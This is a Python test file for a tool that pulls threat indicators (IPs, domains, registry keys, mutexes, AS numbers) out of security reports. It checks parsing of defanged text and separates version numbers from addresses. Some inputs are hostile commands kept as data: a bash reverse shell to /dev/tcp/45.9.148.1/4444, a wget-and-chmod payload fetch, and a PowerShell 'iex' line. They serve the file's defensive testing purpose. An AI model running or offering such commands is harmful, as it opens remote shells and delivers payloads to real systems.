"""Indicators and what stands next to them in reports, advisories, rules and logs.

Each table says for what reason its rows are read as they are.
"""

from __future__ import annotations

import pytest

from tqimap_processor.extract import extract


IMPLIED = {"in-url", "in-address", "in-path"}
RUN = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Evil"
UA = "Mozilla/5.0 (X11; Linux x86_64)"
# (text, reason it is no address)
VERSIONS = [
    ("OpenSSL 1.1.1.1 is old", "a product stands before it"),
    ("Cisco IOS XE 17.9.4.1 and PAN-OS 10.2.9.1", "the products' last words do"),
    ("Fixed in 7.2.4.1", "so does what was done in it"),
    ("upgrade to 2.17.1.4", "or what one should go to"),
    ("prior to 3.2.1.0", "or what it is older than"),
    ("older than 3.2.1.0", "or than what"),
    ("3.1.4.2 and earlier", "others are earlier"),
    ("1.2.3.4 or later", "or later"),
    ("versions 6.1.0.1 through 6.1.0.9 are vulnerable", "a range of versions"),
    ("versions 9.1.14.4, 9.1.17.2, 9.1.18.3, 22.4.2.2 and 22.5.1.1", "a list of versions"),
    ('[assembly: AssemblyVersion("1.0.0.0")]', "the word has more before it"),
    ("ScreenConnect (23.9.8.1)", "in brackets"),
]
# words that announce nothing, or a number that was defanged: nobody defangs a version
ADDRESSES = [
    ("the server 12.2.1.4 answered", {"12.2.1.4"}),
    (
        "version 2 beacons to 45.9.148.1, 45.9.148.2 and 45.9.148.3",
        {f"45.9.148.{n}" for n in (1, 2, 3)},
    ),
    ("from kernel 45.9.148[.]1", {"45.9.148.1"}),
    ("on Windows, 45.9.148.1 was seen", {"45.9.148.1"}),
    ("version 1.2.3.4 of the agent connects to 45.9.148.1", {"45.9.148.1"}),
    ("45.9.148.1 and later 45.9.148.2", {"45.9.148.1", "45.9.148.2"}),
    ("91.92.240.1 and earlier from 91.92.240.2", {"91.92.240.1", "91.92.240.2"}),
    ("client v 45.9.148.108, 91.92.240.1", {"45.9.148.108", "91.92.240.1"}),
    (
        "GET http://a.bad-place.net/x - DIRECT/45.9.148.1",
        {"http://a.bad-place.net/x", "45.9.148.1"},
    ),
    ("bash -i >& /dev/tcp/45.9.148.1/4444", {"45.9.148.1", "/dev/tcp/45.9.148.1/4444"}),
]
WRITTEN: list[tuple[str, set[str]]] = [
    # reports copied from macOS and Linux write keys with slashes
    ("HKEY_LOCAL_MACHINE/SOFTWARE/Microsoft/Windows/CurrentVersion/Run/Evil is set", {RUN}),
    (f'"{RUN.replace(chr(92), "/")}"', {RUN}),
    ("HKLM/SOFTWARE/Microsoft/Windows/CurrentVersion/Run/Evil.", {RUN}),
    ("HKLM/HKCU are both writable, HKCU/user keys too", set()),
    # the kernel's name of a drive, as security products log it
    (
        r"\Device\HarddiskVolume2\Windows\Temp\a.exe",
        {r"\Device\HarddiskVolume2\Windows\Temp\a.exe"},
    ),
    # a path from here on gives the file; from elsewhere it stays untouched
    (r"Get-Content .\run.ps1 | iex", {"run.ps1"}),
    # blanks around every dot: tokenised text, and a defanging of its own
    ("The C2 is evil . com and was seen twice", {"evil.com"}),
    ("mail . evil . co . uk, then hxxp://evil . com/a", {"mail.evil.co.uk", "http://evil.com/a"}),
    ("It was over . the . end . in March . come", set()),
    ("us@evil . com", set()),
    # named entities, where nobody decoded them
    ("http&colon;//evil&period;com&sol;a", {"http://evil.com/a"}),
    # miners' pools
    ("stratum+tcp://pool.evil.com:3333", {"stratum+tcp://pool.evil.com:3333"}),
    # a command behind a link
    ("wget http://45.9.148.1/a.sh;chmod 777 x", {"http://45.9.148.1/a.sh"}),
    ("http://evil.com/a;jsessionid=1", {"http://evil.com/a;jsessionid=1"}),
    # a link inside a link's path
    (
        "https://web.archive.org/web/2020/http://evil.com/a",
        {"https://web.archive.org/web/2020/http://evil.com/a", "http://evil.com/a"},
    ),
    # numbers of networks, however they are spelled out
    ("asn=14061", {"AS14061"}),
    ("AS number 14061", {"AS14061"}),
    ("Autonomous System Number (ASN) 14061", {"AS14061"}),
    ("as 14061 of them", set()),
    # hardware addresses: without separators only by their label, and the long one is no IPv6
    ("MAC address: 001A2B3C4D5E", {"00:1a:2b:3c:4d:5e"}),
    ("001A2B3C4D5E", set()),
    ("mac: 001A2B3C4D5E6F", set()),
    ("00:1A:2B:3C:4D:5E:6F:70", set()),
    # mutexes: STIX, tables, names without quotes that are no English words
    (r"[mutex:name = 'Global\\EvilMtx']", {r"Global\EvilMtx"}),
    ('creates a mutex named "EvilMutex123" to', {"EvilMutex123"}),
    ("creates the mutex AsyncMutex_6SI8OkPnk.", {"AsyncMutex_6SI8OkPnk"}),
    ("Mutex | DCR_MUTEX-abcdef", {"DCR_MUTEX-abcdef"}),
    (r"Mutexes: Local\abc", {r"Local\abc"}),
    ("the mutex named after its author, the mutex prevents two copies", set()),
    # a serial of sixteen bytes with colons is no MD5
    (
        "Serial: 0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9",
        {"0a1b2c3d4e5f60718293a4b5c6d7e8f9"},
    ),
    # a defanged dot makes a domain of what else is a file, but not an escaped one
    ("evil[.]mov, update[.]exe", {"evil.mov", "update.exe"}),
    # a string literal's ends of lines; the end of a path is none
    (r"evil.com\nbad-place.net\r\n45.9.148.1", {"evil.com", "bad-place.net", "45.9.148.1"}),
    (r"\test.txt", {"test.txt"}),
    # an AS number at the end of a sentence, and in a field
    ("hosted at AS9009.", {"AS9009"}),
    ("AS: 14061, AS9009.5", {"AS14061"}),
    # one path, with the kernel's prefix or a variable before slashes
    (r"\\?\C:\Windows\evil.exe", {r"\\?\C:\Windows\evil.exe"}),
    ("%TEMP%/a.exe", {"%TEMP%/a.exe"}),
    # what looks like a drive in a link
    ("https://evil.com/:b:/g/a?e=1", {"https://evil.com/:b:/g/a?e=1"}),
    # two addresses with a slash between them
    ("ann@evil.com/bob@evil.com", {"ann@evil.com", "bob@evil.com"}),
    # Bech32 has one case
    ("BC1QAR0SRRR7XFKVY5L643LYDNW9RE59GTZZWF5MDQ", {"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"}),
]
# names with dots that are no domains
NO_DOMAINS = """
Backdoor.Win32.Agent.io Trojan.Linux.Mirai.cc Win.Ransomware.Lockbit.ai self.log.info("x") host.name
not-a-virus:AdWare.Win32.Agent.me logger.info("x") source.ip,user.name,host.name Vue.js D3.js
"""


@pytest.mark.parametrize(("text", "reason"), VERSIONS)
def test_words_announce_versions(text: str, reason: str) -> None:
    """A dotted quad is the number of a version where the words around it say so."""
    assert not extract(text), reason


@pytest.mark.parametrize(("text", "values"), [*ADDRESSES, *WRITTEN])
def test_neighbours_are_told_apart(text: str, values: set[str]) -> None:
    """A piece of a report gives its indicators, and nothing that only stands beside them."""
    assert {one.value for one in extract(text) if not one.flags & IMPLIED} == values


@pytest.mark.parametrize("text", NO_DOMAINS.split())
def test_dotted_names_are_no_domains(text: str) -> None:
    """What scanners, loggers and libraries call things is neither a domain nor a file."""
    assert not extract(text)


def test_senders_are_domains_of_addresses() -> None:
    """`@evil.com` names the domain of addresses, no account on a platform."""
    (found,) = extract("mails from @evil.com, not from @evilcorp")
    assert (found.type, found.value, "in-address" in found.flags) == ("FQDN", "evil.com", True)


@pytest.mark.parametrize(("text", "kind"), [("evil[.]zip", "FQDN"), (r"Dec14\.zip", "Filename")])
def test_a_defanged_dot_makes_a_domain(text: str, kind: str) -> None:
    """Domains are defanged, names of files are not; an escaped dot is an expression's."""
    assert [one.type for one in extract(text)] == [kind]
